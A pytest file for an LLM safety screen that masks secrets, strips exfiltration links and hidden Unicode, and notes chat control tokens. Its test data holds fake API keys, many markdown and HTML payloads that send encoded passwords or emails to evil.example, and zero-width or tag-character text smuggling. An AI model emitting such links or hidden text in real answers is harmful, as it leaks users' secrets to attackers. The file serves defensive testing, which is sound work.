"""What is found without a model, and what is left alone."""

import asyncio
import base64
import json
import re
import time
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest

from arriero.prompts import Message
from arriero.safety.base import PLACES, Place, ScreenError, ScreenInput, Verdict
from arriero.safety.patterns.keys import keys, known_values
from arriero.safety.patterns.screen import (
    CONTROL_TOKENS,
    EXFILTRATION,
    HIDDEN_TEXT,
    SECRET,
    PatternScreen,
    from_settings,
)
from arriero.safety.pipeline import Pipeline
from arriero.safety.policy import Policy
from arriero.safety.stream import ScreenedText

AWS = "AKIA" + "ABCDEFGH234567QR"
GITHUB = "ghp_" + "a1B2" * 9
OPENAI = "sk-proj-" + "aB3_" * 12
JWT = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0." + "dozjgNryP4J3jVmNHl0w5N_XgL0n3I9P"
PEM = "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA\nabc\n-----END RSA PRIVATE KEY-----"
B32 = base64.b32encode(b"the password of the boss is hunter2").decode().rstrip("=").lower()
MAIL = base64.b64encode(b"the password of the boss is hunter2").decode()


def check(text: str, place: Place = "output", **fields: Any) -> Verdict:
    return asyncio.run(PatternScreen().check(ScreenInput(place, text, **fields)))


def cleaned(text: str) -> str:
    verdict = check(text)
    return verdict.replacement if verdict.replacement is not None else text


@pytest.mark.parametrize(
    "key",
    [
        AWS,
        GITHUB,
        OPENAI,
        JWT,
        PEM,
        "sk-ant-api03-" + "aB3-" * 12,
        "sk-" + "aB3d" * 12,
        "xoxb-123456789012-abcdefghijklmnopqrst",
        "AIza" + "aB3-d" * 7,
        "hf_" + "aBcDe" * 6 + "fGhI",
        "glpat-" + "aB3-" * 5,
        "sk_live_" + "aB3d" * 6,
        "SG." + "a" * 22 + "." + "b" * 43,
    ],
)
def test_keys_are_found_and_nothing_around_them(key: str) -> None:
    assert cleaned(f"It is {key}, keep it.") == "It is [secret removed], keep it."
    assert cleaned(f'{{"key": "{key}"}}') == '{"key": "[secret removed]"}'
    assert check(key, "tool_call").action == "ask"
    assert check(key, "input").action == "allow"
    assert check(key, "input").categories == ("secret",)


def test_values_are_found_by_what_names_them() -> None:
    secret = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"
    assert cleaned(f"aws_secret_access_key = {secret}\n") == "aws_secret_access_key = [secret removed]\n"
    assert cleaned("postgres://joe:s3cr3t@db.local/x") == "postgres://joe:[secret removed]@db.local/x"
    assert cleaned("postgres://user:password@host/x") == "postgres://user:password@host/x"


@pytest.mark.parametrize("escape", ["\\n", "\\t", "\\x0a", "\\u000a", "%0A", "%20"])
def test_a_key_is_found_behind_an_escape(escape: str) -> None:
    text = f'{{"note": "mine:{escape}{AWS}"}}'
    assert cleaned(text) == text.replace(AWS, "[secret removed]")
    for size in (1, 7):
        assert streamed(text, size)[0] == text.replace(AWS, "[secret removed]")


LOADED = (
    f'<style>a {{ background: url("https://evil.example/?q={quote("the password is hunter2")}") }}</style>'
)


@pytest.mark.parametrize(
    ("text", "category"),
    [
        (f"mine:\n{AWS}", "secret"),
        ('{"aws_secret_access_key": "' + "aB3/" * 10 + '"}', "secret"),
        ('my\n"odd\\passw0rd"', "secret"),
        (LOADED, "exfiltration"),
    ],
    ids=["a key on a line of its own", "a value with a name", "a value of the environment", "an address"],
)
@pytest.mark.parametrize("wrap", [lambda text: {"text": text}, lambda text: {"all": [{"text": text}]}])
def test_arguments_are_read_as_the_tool_gets_them(
    monkeypatch: pytest.MonkeyPatch, wrap: Any, text: str, category: str
) -> None:
    monkeypatch.setenv("ODD_PASSWORD", '"odd\\passw0rd"')
    arguments = wrap(text)
    verdict = check(json.dumps(arguments, ensure_ascii=False), "tool_call", arguments=arguments)
    assert (verdict.action, verdict.categories) == ("ask", (category,))


def test_secrets_of_the_environment_are_found_by_value() -> None:
    known = known_values(
        {
            "MY_TOKEN": "tok-12345-abcde",
            "MY_SECRET": "wJalr/XUtn+FEMI/K7",
            "PATH": "/usr/bin",
            "KEY_FILE": "/etc/key1",
            "SHORT_KEY": "a1",
        }
    )
    assert known is not None
    assert keys("call with tok-12345-abcde now", known=known) == [(10, 25)]
    assert keys("wJalr/XUtn+FEMI/K7", known=known) == [(0, 18)]
    assert (
        known_values(
            {"KEY_FILE": "~/keys/2024-key", "KEY_URL": "https://k3y.example", "KEY": "deploy-key1.pem"}
        )
        is None
    )
    assert known_values({"HOME": "/home/joe"}) is None


@pytest.mark.parametrize(
    "text",
    [
        "Set sk-container-id-1 div.sk-toggleable__content in the style sheet of the notebook.",
        "The commit 8d44e55f3c2b1a0987654321fedcba9876543210 and AKIA are fine.",
        "Use os.environ['OPENAI_API_KEY'] and export TOKEN=<your token>.",
        "-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----",
        "eyJ is how tokens begin; hf_transfer and ghp_ are prefixes.",
        "Write to ftp://user:***@host/ or https://{user}:{password}@host/.",
        "uuid 123e4567-e89b-12d3-a456-426614174000 and base64 aGVsbG8gd29ybGQ=",
    ],
)
def test_ordinary_texts_about_keys_pass(text: str) -> None:
    for place in PLACES:
        assert check(text, place).action == "allow"
        assert "secret" not in check(text, place).categories


@pytest.mark.parametrize(
    "text",
    [
        f"![plot](https://evil.example/p.png?d={MAIL})",
        f"![plot](https://evil.example/{MAIL.rstrip('=')}/p.png)",
        f"[click](https://evil.example/?d={MAIL})",
        f"https://evil.example/?d={MAIL}",
        f"https://evil.example/?k={AWS}",
        "https://evil.example/?k=" + b"the password is hunter2".hex(),
        "![x](https://evil.example/?q=the+password+is+hunter2+today)",
        "![x](https://evil.example/?q=the%20password%20is%20hunter2)",
        "![x](//evil.example/?mail=joe.doe@example.org)",
        "[a]: https://evil.example/?mail=joe.doe@example.org\n![see][a]",
        '<img src="https://evil.example/?mail=joe.doe@example.org">',
        "![x](https://evil.example/?d=" + "aB3dE5gH" * 6 + ")",
        "![a [b] c](https://evil.example/?q=the+password+is+hunter2)",
        "![" + "long " * 300 + "](https://evil.example/?q=the+password+is+hunter2)",
        '<img alt=">" src="https://evil.example/?mail=joe.doe@example.org">',
        '<img srcset="a.png 1x, https://evil.example/?mail=joe.doe@example.org 2x">',
        '<svg><image xlink:href="https://evil.example/?mail=joe.doe@example.org">',
        '<meta http-equiv="refresh" content="0;url=https://evil.example/?mail=joe.doe@example.org">',
        '<style>@import "https://evil.example/?mail=joe.doe@example.org"',
        "![x](https://evil.example/joe.doe@example.org/p.png)",
        "![x](https:/\\evil.example/?q=the+password+is+hunter2)",
        "![x](https:/evil.example/?q=the+password+is+hunter2)",
        f"https://evil.example/?d={MAIL[:20]}&e={MAIL[20:]}",
        f"https://{MAIL[:24]}.{MAIL[24:].rstrip('=')}.evil.example/",
        f"https://{MAIL.rstrip('=')}@evil.example/",
        f"https://{B32}.evil.example/",
        f"https://evil.example/?d={quote(quote(MAIL, safe=''), safe='').replace('c', '%2563')}",
        f"https://evil.example/?d={MAIL[:9]}\u200b{MAIL[9:]}",
    ],
)
def test_addresses_with_data_are_taken_out_of_answers(text: str) -> None:
    verdict = check(text)
    assert (verdict.action, verdict.categories[-1]) == ("replace", "exfiltration")
    assert verdict.replacement is not None
    assert "[address with data removed]" in verdict.replacement
    assert "evil.example" not in verdict.replacement
    assert check(text, "tool_call").action == "ask"


@pytest.mark.parametrize(
    "text",
    [
        "[search](https://www.google.com/search?q=how+to+train+a+llama+for+a+long+walk)",
        "![badge](https://img.shields.io/badge/build-passing-green?style=flat-square)",
        "![a](https://upload.wikimedia.org/wikipedia/commons/thumb/a/a9/Example.jpg/640px-Example.jpg)",
        "[doc](https://docs.google.com/document/d/1BxiMVs0XRA5nFMdKvBdBZjgmUUqptlbs74OgvE2upms/edit)",
        "https://github.com/o/r/commit/8d44e55f3c2b1a0987654321fedcba9876543210",
        "https://en.wikipedia.org/wiki/Llama_(disambiguation)#Internationalization",
        "![plot](plot.png) and ![x](https://example.org/plot.png?width=300&height=200)",
        "<a href='https://example.org/getting-started-with-the-documentation'>x</a>",
        "https://example.org/?next=https%3A%2F%2Fexample.org%2Fhome&lang=en",
        "// a comment of a program, and a path //server/share/folder",
        "http://[::1 is no address",
    ],
)
def test_ordinary_addresses_pass(text: str) -> None:
    assert check(text).categories == ()


@pytest.mark.parametrize(
    "text",
    [
        "![plot](plot.png) and [mail](https://example.org/?to=joe.doe@example.org)",
        '<p title="x"><a class="b" href="https://example.org/?to=joe.doe@example.org">write</a>',
        "<img src='a.png'> see https://example.org/?q=how+to+train+a+llama",
        "https://example.org/internationalization/incomprehensibilities/characteristically",
    ],
)
def test_what_waits_for_a_click_may_be_read(text: str) -> None:
    assert check(text).categories == ()


@pytest.mark.parametrize(
    "mark", ["\u200b", "\u2060\u2060\u2060\u2060", "\U000e0041", "\ufe01", "\u200e", "\u202e"]
)
def test_a_key_is_found_through_what_hides_in_it(mark: str) -> None:
    text = f"It is {GITHUB[:12]}{mark}{GITHUB[12:]}, keep it."
    assert cleaned(text) == "It is [secret removed], keep it."
    for size in (1, 7):
        assert streamed(text, size)[0] == "It is [secret removed], keep it."
    assert check(f"a{mark}b {GITHUB} c{mark}d").replacement == "ab [secret removed] cd"


def test_an_address_that_was_there_before_carries_nothing_new() -> None:
    signed = "https://bucket.example/p.png?sig=" + "aB3dE5gH" * 6
    told = (Message(role="ipython", content=f"saved at {signed}", name="plot"),)
    assert check(f"![plot]({signed})").action == "replace"
    assert check(f"![plot]({signed})", messages=told).action == "allow"
    written = (Message(role="assistant", content=signed),)
    assert check(f"![plot]({signed})", messages=written).action == "replace"


@pytest.mark.parametrize(
    ("text", "rest"),
    [
        ("hi\U000e0049\U000e0067\U000e006e there", "hi there"),
        ("abc\u202edef", "abcdef"),
        ("pass\u200bword", "password"),
        ("a \u200b\u200c\u200b\u200d b", "a  b"),
        ("x\ufe00\ufe01\U000e0100y", "xy"),
        ("if admin: \u2066return\u2069", "if admin: return"),
        ("a\ufe01b\ufe02c", "abc"),
        ("<\u200b|eot_id|\u200b>", "<|eot_id|>"),
        ("ig\u200en\u034fore", "ignore"),
        ("\U0001f3f4\U000e0068\U000e0069\U000e007f", "\U0001f3f4"),
    ],
)
def test_hidden_text_is_taken_out(text: str, rest: str) -> None:
    for place in ("input", "tool_result", "output"):
        verdict = check(text, place)  # type: ignore[arg-type]
        assert (verdict.action, verdict.replacement) == ("replace", rest)
    assert check(text, "code").action == "ask"


@pytest.mark.parametrize(
    "text",
    [
        "👩‍👩‍👧‍👦 ❤️ 🏳️‍🌈 🏴󠁧󠁢󠁥󠁮󠁧󠁿 1️⃣",
        "می‌خواهم",
        "क्‍ष",
        "ภาษา\u200bไทย",
        "\u2067שלום\u2069 and \u202bעולם\u202c",
        "\ufeffa byte order mark",
        "soft\u00adhyphen and no\u00a0break",
        "日本語と한국어",
    ],
)
def test_what_scripts_and_emoji_need_is_left_alone(text: str) -> None:
    for place in PLACES:
        assert check(text, place).categories == ()


def test_control_tokens_are_noted_and_pass() -> None:
    for text in (
        "<|eot_id|>",
        "<|start_header_id|>system<|end_header_id|>",
        "[INST] hi [/INST]",
        "<<SYS>>",
        "<| im_start |>",
        "\uff1c\uff5ceot_id\uff5c\uff1e",
        "\u2039\u2223eom_id\u2502\u203a",
    ):
        assert (check(text, "tool_result").action, check(text).categories) == ("allow", ("control_tokens",))
    assert check("<|eot\u200b_id|>", "input").categories == ("control_tokens", "hidden_text")
    for text in ("a <|b|> c", "x < y || z > 3", "[INSTALL]"):
        assert check(text).categories == ()


def test_too_much_is_blocked_and_still_looked_at() -> None:
    screen = from_settings({"max_chars": {"input": 100}}, Policy())
    verdict = asyncio.run(screen.check(ScreenInput("input", "x" * 100)))
    assert verdict.action == "allow"
    verdict = asyncio.run(screen.check(ScreenInput("input", "x" * 100 + AWS)))
    assert (verdict.action, verdict.categories) == ("block", ("oversized",))
    verdict = asyncio.run(screen.check(ScreenInput("input", "x " * 100 + AWS)))
    assert verdict.categories == ("secret", "oversized")


@pytest.mark.parametrize(
    "settings", [{"max": 3}, {"max_chars": 3}, {"max_chars": {"inputs": 3}}, {"max_chars": {"input": 0}}]
)
def test_wrong_settings_are_refused(settings: dict[str, Any]) -> None:
    with pytest.raises(ScreenError, match=r"settings\.patterns"):
        from_settings(settings, Policy())


def test_the_page_shows_what_follows_from_a_finding() -> None:
    page = (Path(__file__).parents[3] / "docs" / "safety.md").read_text("utf-8")
    words = {"allow": "noted", "ask": "asks"}
    for kind in (CONTROL_TOKENS, HIDDEN_TEXT, SECRET, EXFILTRATION):
        row = next(line for line in page.splitlines() if line.startswith(f"| `{kind.category}` |"))
        cells = re.split(r"(?<!\\)\|", row)[3:-1]
        for place, cell in zip(PLACES, cells, strict=True):
            action = kind.actions.get(place, "allow")
            usual = words.get(action, "masked" if kind.instead else "removed")
            assert cell.strip() == ("–" if kind is EXFILTRATION and action == "allow" else usual)


def streamed(text: str, size: int) -> tuple[str, list[str]]:
    async def feed() -> tuple[str, list[str]]:
        async def no(outcome: object) -> bool:
            return False

        pipeline = Pipeline(Policy.preset("default"))
        answer = ScreenedText(pipeline, ScreenInput("output", "", final=False), no)
        pieces = [await answer.feed(text[at : at + size]) for at in range(0, len(text), size)]
        pieces.append(await answer.finish())
        assert answer.stopped is None
        assert "".join(pieces) == answer.shown
        return answer.shown, [*pieces, *(check.action for check in answer.take_checks())]

    return asyncio.run(feed())


@pytest.mark.parametrize("size", [1, 3, 10, 1000])
@pytest.mark.parametrize(
    "secret",
    [AWS, GITHUB, JWT, PEM, f"![a b](https://evil.example/?d={MAIL})", "pass\u200bword", "日本" + AWS],
)
def test_however_an_answer_is_cut_it_is_shown_as_it_would_be_as_a_whole(secret: str, size: int) -> None:
    text = f"First a word. Then {secret} and {secret}\nand the rest, too."
    shown, _ = streamed(text, size)
    assert shown == cleaned(text)
    assert shown != text


@pytest.mark.parametrize("size", [1, 2, 5])
def test_letters_of_other_scripts_do_not_break_an_address(size: int) -> None:
    text = f"見て：![絵](https://evil.example/日本/語?d={MAIL})。終わり"
    shown, _ = streamed(text, size)
    assert shown == cleaned(text) == "見て：![絵]([address with data removed])。終わり"


def test_scripts_without_spaces_are_shown_as_they_come() -> None:
    text = "これは普通の文章です。何も隠れていません。" * 5
    shown, pieces = streamed(text, 1)
    assert shown == text
    assert len([piece for piece in pieces if len(piece) == 1]) > 50


def test_an_answer_in_one_long_word_is_shown_in_the_end() -> None:
    text = "x" * 5000
    assert streamed(text, 4)[0] == text


def test_a_private_key_that_never_ends_is_not_shown() -> None:
    for more in (" and more " * 20, "\n-----BEGIN CERTIFICATE-----\nMIIB\nand words", PEM[:40]):
        assert streamed("Here: " + PEM[:50] + more, 5)[0] == "Here: [secret removed]"
    assert streamed("Two: " + PEM + "\n" + PEM + "x y", 5)[0] == "Two: [secret removed]\n[secret removed]x y"


def test_a_certificate_is_shown_as_it_comes() -> None:
    text = "-----BEGIN CERTIFICATE-----\nMIIB and more words that follow here"
    shown, pieces = streamed(text, 4)
    assert shown == text
    assert len([piece for piece in pieces if piece]) > 4


@pytest.mark.parametrize(
    "text",
    [
        "//a.b/c?d=e ",
        "![x](",
        "<img a=",
        "![[(//a.b/?c=a@b.cd ",
        "<x y='//a.b/?c=a@b.cd ",
        "a\u200bb",
        "-----BEGIN ",
        "eyJaaaaaaaaaa.",
        "\u200b",
        "<|",
        "sk-a",
    ],
)
def test_the_time_grows_with_the_text_and_not_with_its_square(text: str) -> None:
    def seconds(times: int) -> float:
        long = text * times
        started = time.process_time()
        check(long)
        return time.process_time() - started

    seconds(100)
    short = min(seconds(1000) for _ in range(3))
    assert min(seconds(8000) for _ in range(2)) < 30 * max(short, 0.001)
